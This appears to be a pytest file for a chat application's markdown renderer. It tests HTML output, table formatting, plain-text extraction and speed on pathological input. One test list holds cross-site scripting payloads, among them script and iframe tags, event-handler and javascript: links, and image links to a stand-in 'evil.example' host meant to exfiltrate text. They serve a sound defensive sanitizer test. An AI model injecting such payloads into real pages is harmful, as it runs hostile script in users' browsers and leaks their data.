"""Markdown of models as HTML: what is kept, and what can do no harm."""

import time
from html.parser import HTMLParser

import pytest

from chat.markdown import ATTRIBUTES, CODE_CLASSES, LANGUAGE_CLASS, TAGS, plain, render


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>\n"),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>\n'),
        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>\n"),
        (
            "[x](https://a.b/?q=1)",
            '<p><a href="https://a.b/?q=1" target="_blank" rel="noopener noreferrer nofollow">x</a></p>\n',
        ),
    ],
)
def test_markdown_becomes_html(text, html):
    assert render(text) == html


def test_table_cells_keep_their_alignment_without_styles():
    html = render("|a|b|\n|-|-:|\n|1|2|")
    assert '<td align="right">2</td>' in html
    assert "style" not in html


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("42.1 m", "42.1&nbsp;m"),
        ("at 3 km/h, 20 %", "at 3&nbsp;km/h, 20&nbsp;%"),
        ("12 boats", "12 boats"),
        ("`1 m`", "<code>1 m</code>"),
    ],
)
def test_a_number_in_a_table_keeps_its_unit_beside_it(cell, shown):
    assert f"<td>{shown}</td>" in render(f"|a|\n|-|\n|{cell}|")


def test_known_languages_are_coloured_by_classes_and_unknown_ones_stay_plain():
    assert '<code class="language-python"><span class="k">def</span>' in render("```python\ndef f(): pass\n```")
    assert '<pre><code class="language-nolanguage">a &lt; b\n</code></pre>' in render("```nolanguage\na < b\n```")


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("## Noted\n\nI **will** see [the *yard*](https://a.b) at `x_y`.", "Noted\nI will see the yard at x_y."),
        ("1. Dry\n2. Sand\n\n> one\n> two", "Dry\nSand\none\ntwo"),
        ("| step | days |\n|---|--:|\n| dry | 10 |", "step · days\ndry · 10"),
        ("```python\nprint(2 ** 3)\n```\nsnake_case_name, 2 * 3 * 4", "print(2 ** 3)\nsnake_case_name, 2 * 3 * 4"),
        ("…and cut | 10 |\n|---|--:|\n| in **the middle of", "…and cut · 10\nin **the middle of"),
        ("true || false", "true || false"),
    ],
)
def test_a_piece_of_an_answer_reads_without_the_signs_of_markdown(text, words):
    assert plain(text) == words


HARMFUL = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/steal?words)",
    "![x][r]\n\n[r]: https://evil.example/x.png",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    '[x](https://a.b "onmouseover=alert(1)")',
    '```"onmouseover=alert(1)\nx\n```',
    "```python\" onclick=\"alert(1)\nx = '<img src=x onerror=alert(1)>'\n```",
    "<a href='https://a.b' style='position:fixed'>x</a>",
    "<style>*{display:none}</style>",
    "<iframe src=//evil.example></iframe>",
]


@pytest.mark.parametrize("text", HARMFUL)
def test_nothing_harmful_comes_through(text):
    """What is left of it is text: no tag, attribute or address but the listed ones."""
    for tag, attributes in found_in(render(text)):
        assert tag in TAGS
        for name, value in attributes:
            assert name in ATTRIBUTES.get(tag, set()) | {"target", "rel"}
            assert name != "href" or value.startswith(("https://", "http://", "mailto:"))
            assert name != "class" or value in CODE_CLASSES or LANGUAGE_CLASS.fullmatch(value)


def found_in(html):
    class Reader(HTMLParser):
        found: list = []

        def handle_starttag(self, tag, attrs):
            self.found.append((tag, attrs))

    reader = Reader()
    reader.found = []
    reader.feed(html)
    return reader.found


def test_pathological_text_takes_no_time():
    began = time.monotonic()
    for text in (
        "[" * 20_000,
        "*a " * 20_000,
        "> " * 5_000 + "x",
        "`" * 20_001,
        "|a" * 5_000,
        "```python\n" + "(" * 60_000,
    ):
        render(text)
    assert time.monotonic() - began < 5
